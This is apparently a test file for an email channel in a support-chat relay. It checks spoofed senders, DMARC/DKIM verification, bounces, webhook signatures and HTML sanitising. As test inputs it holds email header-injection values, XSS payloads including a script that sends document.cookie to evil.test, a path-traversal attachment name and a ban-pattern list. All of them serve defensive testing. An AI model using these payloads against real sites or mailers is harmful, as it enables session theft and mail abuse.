// What the email channel does with mail it must not trust: spoofed senders, forged or unknown
// tokens, duplicates, auto-replies, bounces, header injection through visitor fields, malicious
// HTML. Outbound mail goes to a separate SMTP server (SMTP_URL), as in production.
import { generateKeyPairSync, randomUUID } from 'node:crypto';
import type { EmailView, HeldEmailView, Message } from '@parley/protocol';
import { simpleParser } from 'mailparser';
import { ObjectId } from 'mongodb';
import { afterAll, beforeAll, describe, expect, inject, it, vi } from 'vitest';
import type { Actor } from '../conversations/service';
import { connectDatabase } from '../db/connect';
import { createServices } from '../services';
import { resolveConversation, startTestRelay, testConfig } from '../testing';
import { inboundAddress, newReplyToken } from './addresses';
import { MAX_EMAIL_BYTES } from './inbound';
import { signInbound } from './signatures';
import { type CaughtMail, sendOverSmtp, startCatcher } from './testing';

const DOMAIN = 'parley.test';
const SECRET = 'inbound-test-secret';
let env: Awaited<ReturnType<typeof startTestRelay>>;
let catcher: Awaited<ReturnType<typeof startCatcher>>;

beforeAll(async () => {
  catcher = await startCatcher();
  env = await startTestRelay({
    smtpUrl: catcher.url,
    inboundSmtpPort: 0,
    devMailbox: false,
    emailVerify: true,
    inboundDomain: DOMAIN,
    inboundSecret: SECRET,
    emailTickMs: 50,
    emailRecoverAfterMs: 1_000,
  });
  env.relay.services.email.useResolver(fixtureDns);
});
afterAll(async () => {
  await env.relay.close();
  await catcher.close();
});

// DNS as the sender's domain publishes it: a DKIM key, DMARC p=reject, SPF for no server at all.
// Every other name does not exist, so domains without DMARC cannot fail it.
const dkimKey = generateKeyPairSync('rsa', {
  modulusLength: 2048,
  publicKeyEncoding: { type: 'spki', format: 'der' },
  privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
});
const publicKey = dkimKey.publicKey.toString('base64');
const dnsRecords: Record<string, string[][]> = {
  'parley._domainkey.signed.test': [['v=DKIM1; k=rsa; p=', publicKey.slice(0, 200), publicKey.slice(200)]],
  '_dmarc.signed.test': [['v=DMARC1; p=reject']],
  'signed.test': [['v=spf1 -all']],
};
async function fixtureDns(name: string, rrtype: string): Promise<string[][]> {
  const records = rrtype === 'TXT' ? dnsRecords[name.toLowerCase()] : undefined;
  if (records) return records;
  throw Object.assign(new Error(`no ${rrtype} record for ${name}`), { code: 'ENOTFOUND' });
}

const eventually = (check: () => void | Promise<void>) =>
  vi.waitFor(check, { timeout: 15_000, interval: 25 });
const smtpPort = () => env.relay.services.email.inboundPort!;
const agentActor = (): Actor => ({
  kind: 'agent',
  agentId: env.agent.agent.id,
  name: 'Ana Agent',
  siteIds: [env.site.id],
});

async function api(path: string, token = env.admin.token) {
  const response = await fetch(`${env.relay.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
  return { status: response.status, body: (await response.json()) as Record<string, unknown> };
}

/** A conversation continued by email at a fresh address; answers its reply address and first email. */
async function escalated(options: { visitorName?: string; address?: string } = {}) {
  const { services } = env.relay;
  const { visitor } = await services.visitors.mint(env.site.id);
  if (options.visitorName !== undefined) {
    await env.relay.connection
      .collection('visitors')
      .updateOne({ _id: new ObjectId(visitor.id) }, { $set: { name: options.visitorName } });
  }
  const { conversation } = await services.conversations.start(
    { visitorId: visitor.id, siteId: env.site.id },
    randomUUID(),
  );
  await services.conversations.append(
    { kind: 'visitor', visitorId: visitor.id, siteId: env.site.id },
    { conversationId: conversation.id, clientMsgId: randomUUID(), body: 'Where is my order?' },
  );
  const address = options.address ?? `visitor-${randomUUID().slice(0, 8)}@example.com`;
  const result = await services.email.continueByEmail(agentActor(), conversation.id, address);
  if (!result.ok) throw new Error(result.message);
  let first: CaughtMail | undefined;
  await eventually(() => {
    first = catcher.mail.find((m) => m.envelope.to.includes(address));
    expect(first).toBeDefined();
  });
  const replyTo = first!.parsed.replyTo?.value[0]?.address ?? '';
  return { conversationId: conversation.id, visitorId: visitor.id, address, replyTo, first: first! };
}

const timeline = (conversationId: string) => env.relay.services.conversations.timeline(conversationId);
const visitorBodies = async (conversationId: string) =>
  (await timeline(conversationId)).filter((m) => m.author.kind === 'visitor').map((m) => m.body);

async function postInbound(raw: string, headers: Record<string, string>) {
  const response = await fetch(`${env.relay.url}/api/email/inbound`, {
    method: 'POST',
    headers: { 'content-type': 'message/rfc822', ...headers },
    body: raw,
  });
  return { status: response.status, body: (await response.json()) as Record<string, unknown> };
}

function rawEmail(fields: { from: string; to: string; messageId: string; body: string; extra?: string }) {
  return [
    `From: ${fields.from}`,
    `To: ${fields.to}`,
    'Subject: Re: your conversation',
    `Message-ID: ${fields.messageId}`,
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    ...(fields.extra ? [fields.extra] : []),
    '',
    fields.body,
    '',
  ].join('\r\n');
}

describe('inbound mail that is not the visitor', () => {
  it('holds a reply from another sender for an admin, and adds nothing', async () => {
    const { conversationId, replyTo } = await escalated();
    await sendOverSmtp(smtpPort(), {
      from: 'mallory@evil.test',
      to: replyTo,
      subject: 'Re: order',
      messageId: `<spoof-${randomUUID()}@evil.test>`,
      text: 'Please send the refund to my account instead.',
    });
    let held: HeldEmailView[] = [];
    await eventually(async () => {
      held = (await api('/api/email/held')).body.held as HeldEmailView[];
      expect(held.some((h) => h.conversationId === conversationId)).toBe(true);
    });
    expect(held.find((h) => h.conversationId === conversationId)).toMatchObject({
      reason: 'sender_mismatch',
      from: 'mallory@evil.test',
    });
    expect(await visitorBodies(conversationId)).toEqual(['Where is my order?']);
    expect((await api('/api/email/held', env.agent.token)).status).toBe(403);

    // An admin reads it in full, then discards it.
    const spoof = held.find((h) => h.conversationId === conversationId)!;
    expect(spoof.text).toContain('refund to my account');
    const discard = (token: string) =>
      fetch(`${env.relay.url}/api/email/held/${spoof.id}`, {
        method: 'DELETE',
        headers: { authorization: `Bearer ${token}` },
      });
    expect((await discard(env.agent.token)).status).toBe(403);
    expect((await discard(env.admin.token)).status).toBe(200);
    expect((await discard(env.admin.token)).status).toBe(404);
    const left = (await api('/api/email/held')).body.held as HeldEmailView[];
    expect(left.some((h) => h.id === spoof.id)).toBe(false);
  });

  it('refuses mail to a forged or unknown token; holds mail to the wrong kind of address', async () => {
    const forged = inboundAddress('reply', newReplyToken(), DOMAIN);
    const messageId = `<forged-${randomUUID()}@example.com>`;
    await expect(
      sendOverSmtp(smtpPort(), {
        from: 'someone@example.com',
        to: forged,
        subject: 'hi',
        messageId,
        text: 'hello?',
      }),
    ).rejects.toThrow(/550/);
    const heldNow = (await api('/api/email/held')).body.held as HeldEmailView[];
    expect(heldNow.some((h) => h.messageId === messageId)).toBe(false);
    // A real token in a bounce address is not a reply address.
    const { replyTo, address } = await escalated();
    const token = replyTo.slice('reply+'.length, replyTo.indexOf('@'));
    const viaBounce = `<via-bounce-${randomUUID()}@example.com>`;
    await sendOverSmtp(smtpPort(), {
      from: address,
      to: inboundAddress('bounce', token, DOMAIN),
      subject: 'hi',
      messageId: viaBounce,
      text: 'hello?',
    });
    await eventually(async () => {
      const held = (await api('/api/email/held')).body.held as HeldEmailView[];
      expect(held.find((h) => h.messageId === viaBounce)).toMatchObject({ reason: 'unknown_token' });
    });
    for (const to of [`reply+not-a-token@${DOMAIN}`, 'someone@elsewhere.test', `support@${DOMAIN}`]) {
      await expect(
        sendOverSmtp(smtpPort(), { from: 'someone@example.com', to, subject: 'hi', text: 'hello?' }),
      ).rejects.toThrow(/550/);
    }
  });

  it('adds a duplicate Message-ID once, whichever door it comes through', async () => {
    const { conversationId, replyTo, address } = await escalated();
    const messageId = `<dup-${randomUUID()}@example.com>`;
    const mail = { from: address, to: replyTo, subject: 'Re: order', messageId, text: 'Order 1234, thanks.' };
    await sendOverSmtp(smtpPort(), mail);
    await sendOverSmtp(smtpPort(), mail);
    const raw = rawEmail({ from: address, to: replyTo, messageId, body: 'Order 1234, thanks.' });
    const again = await postInbound(raw, signInbound(SECRET, Buffer.from(raw)));
    expect(again.body).toMatchObject({ ok: true, disposition: 'duplicate' });
    expect(await visitorBodies(conversationId)).toEqual(['Where is my order?', 'Order 1234, thanks.']);
  });

  it('recognises auto-replies: they never reopen a conversation', async () => {
    const { conversationId, replyTo, address } = await escalated();
    await resolveConversation(env.relay, env.agent.agent, conversationId);
    const autoReplies = [
      { 'Auto-Submitted': 'auto-replied' },
      { Precedence: 'bulk' },
      { 'X-Autoreply': 'yes' },
    ];
    for (const headers of autoReplies) {
      await sendOverSmtp(smtpPort(), {
        from: address,
        to: replyTo,
        subject: 'Out of office',
        messageId: `<ooo-${randomUUID()}@example.com>`,
        headers,
        text: 'I am out of the office until Monday.',
      });
    }
    await eventually(async () => {
      const events = (await timeline(conversationId)).filter((m) => m.data?.name === 'email_auto_reply');
      expect(events).toHaveLength(autoReplies.length);
      expect(events.every((e) => e.visibility === 'agents')).toBe(true);
    });
    expect(await visitorBodies(conversationId)).toEqual(['Where is my order?']);
    expect((await env.relay.services.conversations.byId(conversationId))?.status).toBe('resolved');

    // The same sender writing for real does reopen it.
    await sendOverSmtp(smtpPort(), {
      from: address,
      to: replyTo,
      subject: 'Re: order',
      messageId: `<human-${randomUUID()}@example.com>`,
      text: 'Back now: still no parcel.',
    });
    await eventually(async () =>
      expect((await env.relay.services.conversations.byId(conversationId))?.status).toBe('open'),
    );
  });

  it('takes a bounce as a failing address: the agent is told, nothing reopens, no more mail goes', async () => {
    const { conversationId, visitorId, address, first } = await escalated();
    // Bounces come back to the thread's own envelope sender.
    expect(first.envelope.from).toMatch(new RegExp(`^bounce\\+[0-9a-f]{32}@${DOMAIN.replace('.', '\\.')}$`));
    await resolveConversation(env.relay, env.agent.agent, conversationId);
    const boundary = 'dsn-boundary';
    const dsn = [
      'From: Mail Delivery System <MAILER-DAEMON@mx.example.com>',
      `To: ${first.envelope.from}`,
      'Subject: Undelivered Mail Returned to Sender',
      `Message-ID: <dsn-${randomUUID()}@mx.example.com>`,
      'Auto-Submitted: auto-replied',
      'MIME-Version: 1.0',
      `Content-Type: multipart/report; report-type=delivery-status; boundary="${boundary}"`,
      '',
      `--${boundary}`,
      'Content-Type: text/plain',
      '',
      `Delivery to ${address} failed permanently: user unknown.`,
      `--${boundary}`,
      'Content-Type: message/delivery-status',
      '',
      'Reporting-MTA: dns; mx.example.com',
      '',
      `Final-Recipient: rfc822; ${address}`,
      'Action: failed',
      'Status: 5.1.1',
      `--${boundary}--`,
      '',
    ].join('\r\n');
    await sendOverSmtp(smtpPort(), { envelope: { from: '', to: [first.envelope.from] }, raw: dsn });
    await eventually(async () => {
      const visitor = await env.relay.services.visitors.byId(visitorId);
      expect(visitor?.emailFailing).toBe(true);
    });
    const entries = await timeline(conversationId);
    expect(entries.find((m) => m.data?.name === 'email_bounced')).toMatchObject({
      visibility: 'agents',
      type: 'event',
    });
    expect((await env.relay.services.conversations.byId(conversationId))?.status).toBe('resolved');
    expect(await env.relay.services.email.thread(agentActor(), conversationId)).toMatchObject({
      failing: true,
    });

    // The agent's next reply is not mailed to an address known to bounce.
    const before = catcher.mail.filter((m) => m.envelope.to.includes(address)).length;
    await env.relay.services.conversations.append(agentActor(), {
      conversationId,
      clientMsgId: randomUUID(),
      body: 'Did you get this?',
    });
    await eventually(async () => {
      const unsent = (await timeline(conversationId)).find((m) => m.data?.name === 'email_not_sent');
      expect(unsent).toMatchObject({ visibility: 'agents', body: expect.stringContaining('bounced') });
    });
    expect(catcher.mail.filter((m) => m.envelope.to.includes(address))).toHaveLength(before);
  });
});

describe('outbound mail', () => {
  it('cannot be given extra headers or recipients through visitor or agent fields', async () => {
    const hostileAgent = await env.relay.services.agents.create({
      email: `hostile-${randomUUID().slice(0, 8)}@t.test`,
      name: 'Ana\r\nBcc: agent-leak@evil.test\r\nX-Injected: agent',
      role: 'agent',
      siteIds: [env.site.id],
    });
    const { conversationId, address, first } = await escalated({
      visitorName: 'Jane\r\nBcc: victim@evil.test\r\nX-Injected: visitor',
    });
    await env.relay.services.conversations.append(
      {
        kind: 'agent',
        agentId: hostileAgent.agent.id,
        name: hostileAgent.agent.name,
        siteIds: [env.site.id],
      },
      { conversationId, clientMsgId: randomUUID(), body: 'Line one\r\nBcc: body@evil.test' },
    );
    let second: CaughtMail | undefined;
    await eventually(() => {
      const mails = catcher.mail.filter((m) => m.envelope.to.includes(address));
      expect(mails.length).toBeGreaterThanOrEqual(2);
      second = mails[1];
    });
    for (const mail of [first, second!]) {
      expect(mail.envelope.to).toEqual([address]);
      const headerBlock = mail.raw.toString('utf8').split('\r\n\r\n')[0]!;
      expect(headerBlock).not.toMatch(/^(bcc|x-injected):/im);
      const parsed = await simpleParser(mail.raw);
      expect(parsed.bcc).toBeUndefined();
      expect(parsed.cc).toBeUndefined();
      expect(parsed.headers.has('x-injected')).toBe(false);
      expect(parsed.to).toMatchObject({ value: [{ address }] });
    }
    expect(second!.parsed.from?.value[0]?.name).toContain('Ana');
  });
});

describe('inbound HTML and attachments', () => {
  it('keeps HTML that can neither run nor load anything, and attachments with safe names and types', async () => {
    const { conversationId, replyTo, address } = await escalated();
    await sendOverSmtp(smtpPort(), {
      from: address,
      to: replyTo,
      subject: 'Re: order',
      messageId: `<html-${randomUUID()}@example.com>`,
      text: 'Here is a photo of the damage.',
      html: [
        '<p onclick="steal()">Here is a photo of the <b>damage</b>.</p>',
        '<script>fetch("https://evil.test/?c="+document.cookie)</script>',
        '<img src="https://tracker.evil.test/open.gif" width="1" height="1">',
        '<img src="x" onerror="alert(1)">',
        '<a href="javascript:alert(1)">click</a> <a href="https://shop.test/orders">orders</a>',
        '<iframe src="https://evil.test"></iframe><form action="https://evil.test"><input></form>',
        '<div style="background:url(https://tracker.evil.test/bg.gif)">styled</div>',
        '<svg onload="alert(1)"></svg><style>@import url(https://evil.test/x.css)</style>',
      ].join(''),
      attachments: [
        {
          filename: '../../../etc/invoice.html',
          content: '<script>alert(1)</script>',
          contentType: 'text/html',
        },
        { filename: 'photo.png', content: Buffer.from([0x89, 0x50, 0x4e, 0x47]), contentType: 'image/png' },
      ],
    });
    let message: Awaited<ReturnType<typeof timeline>>[number] | undefined;
    await eventually(async () => {
      message = (await timeline(conversationId)).find(
        (m) => m.channel === 'email' && m.author.kind === 'visitor',
      );
      expect(message).toBeDefined();
    });
    expect(message!.body).toBe('Here is a photo of the damage.');
    const { body } = await api(`/api/email/messages/${message!.data?.emailId}`, env.agent.token);
    const email = body.email as EmailView;
    const html = email.html ?? '';
    expect(html).toContain('<b>damage</b>');
    expect(html).toContain('href="https://shop.test/orders"');
    for (const banned of [
      /<script/i,
      /\son\w+=/i,
      /javascript:/i,
      /tracker\.evil\.test/,
      /<iframe/i,
      /<form/i,
      /<style/i,
      /<svg/i,
      /evil\.test/,
    ]) {
      expect(html).not.toMatch(banned);
    }
    expect(email.attachments.map((a) => [a.filename, a.contentType])).toEqual([
      ['etcinvoice.html', 'application/octet-stream'],
      ['photo.png', 'image/png'],
    ]);
    const download = await fetch(`${env.relay.url}/api/email/attachments/${email.attachments[0]!.id}`, {
      headers: { authorization: `Bearer ${env.agent.token}` },
    });
    expect(download.status).toBe(200);
    expect(download.headers.get('content-type')).toMatch(/^application\/octet-stream/);
    expect(download.headers.get('content-disposition')).toMatch(
      /^attachment; filename="?etcinvoice\.html"?$/,
    );
    expect(download.headers.get('x-content-type-options')).toBe('nosniff');
    expect(await download.text()).toBe('<script>alert(1)</script>');
    const outsider = await fetch(`${env.relay.url}/api/email/attachments/${email.attachments[0]!.id}`, {
      headers: { authorization: `Bearer ${env.outsider.token}` },
    });
    expect(outsider.status).toBe(404);
  });
});

describe('sender verification', () => {
  it('holds a reply that fails its domain’s DMARC check, and adds one its domain signed', async () => {
    const address = `jo-${randomUUID().slice(0, 8)}@signed.test`;
    const { conversationId, replyTo } = await escalated({ address });
    const mail = (text: string) => ({
      from: address,
      to: replyTo,
      subject: 'Re: order',
      messageId: `<${randomUUID()}@signed.test>`,
      text,
    });
    const otherKey = generateKeyPairSync('rsa', {
      modulusLength: 2048,
      privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
      publicKeyEncoding: { type: 'spki', format: 'pem' },
    }).privateKey;
    await sendOverSmtp(smtpPort(), mail('Forged: not signed at all.'));
    await sendOverSmtp(smtpPort(), {
      ...mail('Forged: signed with somebody else’s key.'),
      dkim: { domainName: 'signed.test', keySelector: 'parley', privateKey: otherKey },
    });
    await sendOverSmtp(smtpPort(), {
      ...mail('Signed by signed.test: this is really Jo.'),
      dkim: { domainName: 'signed.test', keySelector: 'parley', privateKey: dkimKey.privateKey },
    });
    await eventually(async () =>
      expect(await visitorBodies(conversationId)).toEqual([
        'Where is my order?',
        'Signed by signed.test: this is really Jo.',
      ]),
    );
    const held = ((await api('/api/email/held')).body.held as HeldEmailView[]).filter(
      (h) => h.conversationId === conversationId,
    );
    expect(held.map((h) => [h.reason, h.text.trim()]).sort()).toEqual([
      ['failed_verification', 'Forged: not signed at all.'],
      ['failed_verification', 'Forged: signed with somebody else’s key.'],
    ]);

    // An admin who knows better releases one: it joins the timeline as the visitor's reply.
    const release = (id: string, token = env.admin.token) =>
      fetch(`${env.relay.url}/api/email/held/${id}/release`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}` },
      });
    const unsigned = held.find((h) => h.text.includes('not signed'))!;
    expect((await release(unsigned.id, env.agent.token)).status).toBe(403);
    expect(await (await release(unsigned.id)).json()).toMatchObject({
      ok: true,
      outcome: { disposition: 'added', conversationId },
    });
    expect((await release(unsigned.id)).status).toBe(404);
    expect((await visitorBodies(conversationId)).at(-1)).toBe('Forged: not signed at all.');
  });
});

describe('the development Mailbox', () => {
  it('is not there unless switched on', async () => {
    expect(await api('/api/email/mailbox')).toMatchObject({ status: 404, body: { code: 'not_found' } });
  });
});

describe('the inbound HTTP door', () => {
  it('takes raw MIME signed with the shared secret, and nothing else', async () => {
    const { conversationId, replyTo, address } = await escalated();
    const raw = rawEmail({
      from: `Visitor <${address}>`,
      to: replyTo,
      messageId: `<http-${randomUUID()}@example.com>`,
      body: 'Sent through the provider webhook.\n\nOn Monday, Shop wrote:\n> Where is my order?',
    });
    const bytes = Buffer.from(raw);
    const unsigned = await postInbound(raw, {});
    const wrongSecret = await postInbound(raw, signInbound('not-the-secret', bytes));
    const tampered = await postInbound(raw.replace('webhook', 'webhooK'), signInbound(SECRET, bytes));
    const stale = await postInbound(raw, signInbound(SECRET, bytes, Date.now() - 60 * 60_000));
    for (const refused of [unsigned, wrongSecret, tampered, stale]) {
      expect(refused).toMatchObject({ status: 401, body: { ok: false, code: 'unauthorized' } });
    }
    expect(await visitorBodies(conversationId)).toEqual(['Where is my order?']);

    // Oversized mail is refused at either door before anything is parsed or stored.
    const huge = rawEmail({
      from: address,
      to: replyTo,
      messageId: `<huge-${randomUUID()}@example.com>`,
      body: 'x'.repeat(MAX_EMAIL_BYTES + 1024),
    });
    expect((await postInbound(huge, signInbound(SECRET, Buffer.from(huge)))).status).toBe(413);
    await expect(
      sendOverSmtp(smtpPort(), { envelope: { from: address, to: [replyTo] }, raw: huge }),
    ).rejects.toThrow(/552/);

    const accepted = await postInbound(raw, signInbound(SECRET, bytes));
    expect(accepted).toMatchObject({ status: 200, body: { ok: true, disposition: 'added', conversationId } });
    expect(await visitorBodies(conversationId)).toEqual([
      'Where is my order?',
      'Sent through the provider webhook.',
    ]);
  });
});

/** Stores agents' replies through another relay over the same store that stops right after: nothing hears them. */
async function storedByStoppedRelay(conversationId: string, ...bodies: string[]) {
  const dbName = env.relay.connection.name;
  const connection = await connectDatabase(inject('mongodbUri'), dbName);
  const other = createServices(connection, testConfig({ dbName, redisUrl: 'redis://127.0.0.1:1' }));
  other.email.oweReplies(); // as its email workers did when it started
  const messages = [];
  for (const body of bodies) {
    const stored = await other.conversations.append(agentActor(), {
      conversationId,
      clientMsgId: randomUUID(),
      body,
    });
    if (!stored.ok) throw new Error(stored.message);
    messages.push(stored.message);
  }
  await connection.close();
  return messages;
}
const pendingOf = async (messageId: string) =>
  (await env.relay.connection.collection('messages').findOne({ _id: new ObjectId(messageId) }))?.pending;

describe('a relay that stops right after storing an agent reply', () => {
  it('leaves the reply marked, and another relay emails it once; a reply on the usual path is not marked for long', async () => {
    const { conversationId, address } = await escalated();
    const mailTo = () => catcher.mail.filter((m) => m.envelope.to.includes(address));

    // Another relay over the same store (two relays: REDIS_URL set) stores an agent's reply and
    // stops before the email is scheduled: nothing hears its announcement.
    const [reply] = await storedByStoppedRelay(conversationId, 'Your order ships today.');
    const stored = { message: reply! };
    expect(await pendingOf(stored.message.id)).toEqual(['email']);
    expect(mailTo()).toHaveLength(1);

    // This relay's worker finds the mark once it is old enough, emails the reply and clears it.
    await eventually(() => expect(mailTo()).toHaveLength(2));
    expect(mailTo()[1]!.parsed.text).toContain('Your order ships today.');
    await eventually(async () => expect(await pendingOf(stored.message.id)).toBeUndefined());

    // A reply on the usual path is scheduled and its mark cleared at once, so later passes of
    // the worker do not email it again.
    const usual = await env.relay.services.conversations.append(agentActor(), {
      conversationId,
      clientMsgId: randomUUID(),
      body: 'Anything else I can help with?',
    });
    if (!usual.ok) throw new Error(usual.message);
    await eventually(() => expect(mailTo()).toHaveLength(3));
    expect(mailTo()[2]!.parsed.text).toContain('Anything else I can help with?');
    await eventually(async () => expect(await pendingOf(usual.message.id)).toBeUndefined());
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    expect(mailTo()).toHaveLength(3);
    // Visitors' messages and chat replies are never marked, and a settled mark leaves the index.
    const messages = env.relay.connection.collection('messages');
    expect(await messages.countDocuments({ pending: { $exists: true } })).toBe(0);
    const plan = await messages.find({ pending: 'email', createdAt: { $lt: new Date() } }).explain();
    expect(JSON.stringify(plan.queryPlanner.winningPlan)).toContain('IXSCAN');
  });
});

describe('a recovered reply', () => {
  it('joins the reply email already waiting for a later reply, instead of being dropped', async () => {
    const { conversationId, address } = await escalated();
    const [early, later] = (await storedByStoppedRelay(
      conversationId,
      'First: your refund is on its way.',
      'Second: it takes 3 days.',
    )) as [Message, Message];
    // The later reply's email was scheduled (and its mark cleared) but waits: SMTP failed and it backs off.
    const jobs = env.relay.connection.collection('emailjobs');
    const conversation = new ObjectId(conversationId);
    await jobs.insertOne({
      conversationId: conversation,
      kind: 'reply',
      dueAt: new Date(Date.now() + 3_600_000),
      fromSeq: later.seq,
      upToSeq: later.seq,
      leaseUntil: new Date(0),
      attempts: 1,
    });
    await env.relay.services.conversations.settle([later.id], 'email');

    // The worker finds the early reply's mark and widens the waiting email to cover it.
    await eventually(async () => expect(await pendingOf(early.id)).toBeUndefined());
    expect(await jobs.findOne({ conversationId: conversation, kind: 'reply' })).toMatchObject({
      fromSeq: early.seq,
      upToSeq: later.seq,
    });
    // When it is due, one email carries both replies.
    const before = catcher.mail.filter((m) => m.envelope.to.includes(address)).length;
    await jobs.updateOne({ conversationId: conversation, kind: 'reply' }, { $set: { dueAt: new Date() } });
    await eventually(() =>
      expect(catcher.mail.filter((m) => m.envelope.to.includes(address))).toHaveLength(before + 1),
    );
    const email = catcher.mail.filter((m) => m.envelope.to.includes(address)).at(-1)!;
    expect(email.parsed.text).toContain('First: your refund is on its way.');
    expect(email.parsed.text).toContain('Second: it takes 3 days.');
  });
});
